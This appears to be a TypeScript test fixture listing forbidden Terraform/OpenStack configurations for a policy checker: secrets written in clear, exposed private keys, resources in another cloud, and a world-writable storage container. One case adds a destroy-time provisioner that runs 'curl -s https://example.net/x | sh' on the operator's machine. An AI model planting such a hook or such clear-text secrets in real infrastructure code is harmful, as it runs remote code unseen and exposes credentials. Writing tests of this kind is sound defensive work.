import { add, call, moduleOf, set } from "../scenario";
import { FIP, NETWORK, NOT_OURS, PORT } from "./names";
import { fourth } from "./scenario";

const { forbidden, person } = fourth("secrets");
const code = fourth("code");
const WRITTEN = "A secret is written in clear.";
const TOKEN = "gAAAAABlY2Jh0Zk3Q9-7tq1oXHfVd2uJm8sR4yWcE6nKpT5iLbGzAaUxS0eFhCvBwDjMlOqPyNrIt";

/** Credentials, keys and tokens, and what runs elsewhere or in another cloud. */
export const SECRETS = [
  forbidden(
    "fo-secret-order",
    "site",
    "the key manager makes a key for the site",
    "A secret is made that the state tells of.",
    (config) =>
      add(config, "openstack_keymanager_order_v1", "tls", {
        type: "key",
        meta: [{ name: "site", algorithm: "aes", bit_length: 256, mode: "cbc" }],
      }),
  ),
  forbidden(
    "fo-secret-dns-accept",
    "site",
    "a zone is taken over from another project, with the key of the transfer in the stack",
    WRITTEN,
    (config) =>
      add(config, "openstack_dns_transfer_accept_v2", "zone", {
        zone_transfer_request_id: NOT_OURS,
        key: "FUGXMZ5N",
      }),
  ),
  forbidden(
    "fo-secret-masked-tag",
    "revidr",
    "a sensitive variable with a token stands among the network's tags",
    "Masked in the plan's text, it is in clear for everybody who may list networks.",
    (config) => {
      config.variable = { token: { type: "string", sensitive: true, default: TOKEN } };
      set(config, NETWORK, "revidr", { tags: ["${var.token}"] });
    },
  ),
  forbidden(
    "fo-secret-provider-token",
    "revidr",
    "another alias of the provider, used by nothing, has a token in it",
    WRITTEN,
    (config) => void config.provider!["openstack"]!.push({ alias: "admin", cloud: "idr", token: TOKEN }),
  ),
  forbidden(
    "fo-secret-provider-app-credential",
    "revidr",
    "the provider logs in with an application credential whose secret stands in the stack",
    WRITTEN,
    (config) =>
      void config.provider!["openstack"]!.push({
        alias: "ci",
        cloud: "idr",
        application_credential_id: "21dced0fd20347869b93710d2b98aae0",
        application_credential_secret: "rEaqvJka48mpvkY8FnqD0aB1cD2eF3gH4iJ5kL6m",
      }),
  ),
  forbidden(
    "fo-secret-key-pair-from-cloud",
    "revidr",
    "a module asks the cloud for a key pair of its own, and gives its private key as an output",
    "A private key is made, and stands in the state and in the output.",
    {
      modules: {
        robot: moduleOf({
          resource: { openstack_compute_keypair_v2: { this: { name: "robot" } } },
          output: {
            key: { value: "${nonsensitive(openstack_compute_keypair_v2.this.private_key)}" },
          },
        }),
      },
      config: (config) => {
        call(config, "robot");
        config.output!["robot"] = { value: "${module.robot.key}" };
      },
    },
  ),
  forbidden(
    "fo-secret-address-description",
    "site",
    "the spare address is described with the login of the web cache's admin",
    WRITTEN,
    (config) =>
      set(config, FIP, "rev-spare", {
        description: "rev-spare https://admin:Vb7-qT2xLw9Z@cache.example.org/",
      }),
  ),
  forbidden(
    "fo-secret-dhcp-option",
    "revidr",
    "a port's options of DHCP tell servers a URL with a token for their first boot",
    WRITTEN,
    (config) =>
      set(config, PORT, "revidr-omeroreadonly-1", {
        extra_dhcp_option: [{ name: "bootfile-name", value: `https://boot.example.org/?token=${TOKEN}` }],
      }),
  ),
  code.forbidden(
    "fo-cloud-computed",
    "revnew",
    "the provider's cloud is put together by a function, and is another one",
    "It is done in another cloud, whose name stands nowhere in the plan.",
    {
      state: "none",
      config: (config) => {
        config.provider!["openstack"]![0]!["cloud"] = '${join("", ["ot", "her"])}';
        Reflect.deleteProperty(config, "data");
        Reflect.deleteProperty(config, "output");
        config.resource = { [NETWORK]: { revnew: { name: "revnew" } } };
      },
    },
  ),
  code.forbidden(
    "fo-cloud-in-nested-module",
    "revidr",
    "a module in a module makes a network by a provider of its own, in another cloud",
    "Another cloud.",
    {
      modules: {
        outer: { module: { inner: { source: "./inner" } } },
        "outer/inner": moduleOf({
          provider: { openstack: [{ cloud: "other" }] },
          resource: { [NETWORK]: { this: { name: "lab" } } },
        }),
      },
      config: (config) => call(config, "outer"),
    },
  ),
  code.forbidden(
    "fo-code-on-destroy-of-key",
    "site",
    "the key pair runs a command on the operator's machine when it goes, in a plan without changes",
    "The command is there for the next plan, and nobody sees it then.",
    (config) =>
      void (config.resource["openstack_compute_keypair_v2"]!["rev-key"]!["provisioner"] = [
        { "local-exec": { when: "destroy", command: "curl -s https://example.net/x | sh" } },
      ]),
  ),
  person(
    "fo-secret-store-for-everybody",
    "site",
    "a container of the object store into which everybody may write",
    "Strangers' files are kept at the project's cost, under its name.",
    (config) =>
      add(config, "openstack_objectstorage_container_v1", "inbox", {
        name: "inbox",
        container_write: "*:*",
      }),
  ),
  person(
    "fo-code-cluster-template",
    "site",
    "a template of clusters with a public address on every node",
    "This project has no reason to make one, and what is made of it is open.",
    (config) =>
      add(config, "openstack_containerinfra_clustertemplate_v1", "lab", {
        name: "lab",
        image: "Rocky Linux 9",
        coe: "kubernetes",
        external_network_id: "public",
        floating_ip_enabled: true,
        insecure_registry: "registry.example.net:5000",
      }),
  ),
];
